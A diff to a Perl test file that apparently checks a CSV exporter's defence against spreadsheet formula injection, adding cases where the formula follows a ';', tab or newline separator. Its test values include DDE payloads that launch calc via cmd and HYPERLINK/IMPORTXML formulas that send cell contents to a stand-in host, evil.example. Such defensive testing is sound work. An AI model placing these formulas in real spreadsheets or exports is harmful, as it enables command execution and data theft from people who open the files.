@@ -30,19 +30,29 @@ sub csv {
 	} @_
 }
 
+# Without the mark where a cell begins, by whatever separator.
+sub unmarked {
+	my ($cell) = @_;
+	return $cell =~
+	    s/(^|[;\t\r\n])'(?=[\s"'\x{a0}\x{200b}\x{3000}]*[\x{1}=+\-@＝＋－＠])/$1/gr
+}
+
 my @formulas = (
 	'=1+1', '=cmd|\' /C calc\'!A0', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd',
 	"\t=1+1", "\r=1+1", "\n=1+1", ' =1+1', '   =1+1', '"=1+1', '""=1+1', '" =1+1', "'=1+1",
 	"''=1+1", '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)',
 	"\x{a0}=1", "\x{200b}=1", "\x{3000}=1", '=HYPERLINK("http://evil.example?x="&A1,"click")',
 	'=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '-A1', '+A1', '-(1)+A1', '-1-E5+',
-	'+', '-', '@', '=', '-e5', '- A1', '+49 30 CALL', '@ann', '-1e', '-1e5e5', "\x{1}=1"
+	'+', '-', '@', '=', '-e5', '- A1', '+49 30 CALL', '@ann', '-1e', '-1e5e5', "\x{1}=1",
+	'a;=cmd|\' /C calc\'!A0', "a\t=1+1", "a\n=1+1", 'a;b; =1+1', "a;'=1+1",
+	"-5;\t@\r\n=1", 'a;＝1'
 );
 my @plain = (
 	'-5', '+49301234', '+49 30 1234-56', '-1.5', '-1,50', '-1.5e-7', '-1E+10', '+1', '-0',
 	'-(5)',
 	'(5)', '1+1', 'a=b', '2026-11-20', "it's", "'quoted'", 'a@b.example', '"quoted"', ' plain',
-	'plain ', '', '3-4', 'x', '-5%', '-5/6', 'a,b', "a\nb", '–5', '#REF!', '%00'
+	'plain ', '', '3-4', 'x', '-5%', '-5/6', 'a,b', "a\nb", '–5', '#REF!', '%00', 'a;b',
+	'5;-5;x', "1\t+2"
 );
 my $src = $t->source;
 my @values = (@formulas, @plain);
@@ -72,7 +82,7 @@ is_deeply(
 	'safe=false gives every value as it is'
 );
 
-my (@formula, @changed, @lost);
+my (@formula, @changed, @lost, @other);
 for my $n (1 .. @values) {
 	my $id = sprintf '%03d', $n;
 	my $value = $exact{$id} // '';
@@ -82,11 +92,14 @@ for my $n (1 .. @values) {
 	    && $value =~ /^[\s"'\x{a0}\x{200b}\x{3000}]*[=+\-@＝＋－＠]/
 	    && $cell !~ /^'/;
 	push @changed, "$value: $cell" if $n > @formulas && $cell ne $value;
-	push @lost, $value if ($cell eq "'$value") + ($cell eq $value) != 1;
+	push @lost, $value if unmarked($cell) ne $value;
+	push @other, $value
+	    if grep { /^[\s"\x{a0}\x{200b}\x{3000}]*[=@＝＋－＠]/ } split /[;\t\r\n]/, $cell;
 }
 is_deeply(\@formula, [], 'what a spreadsheet would take for a formula begins with an apostrophe');
 is_deeply(\@changed, [], 'numbers, telephone numbers and other texts are left alone');
-is_deeply(\@lost, [], 'taking that apostrophe away gives every value back');
+is_deeply(\@lost, [], 'taking the apostrophes away gives every value back');
+is_deeply(\@other, [], 'nor does one that was told of another separator see a formula');
 
 $src->put('/numbers.json', '[{"id":1,"n":-5,"f":-1.5e-7,"o":{"a":"=1"},"t":"-5+A1"}]');
 my $j = $t->connect(json => $src->url('/numbers.json'), config => { key => 'id' });
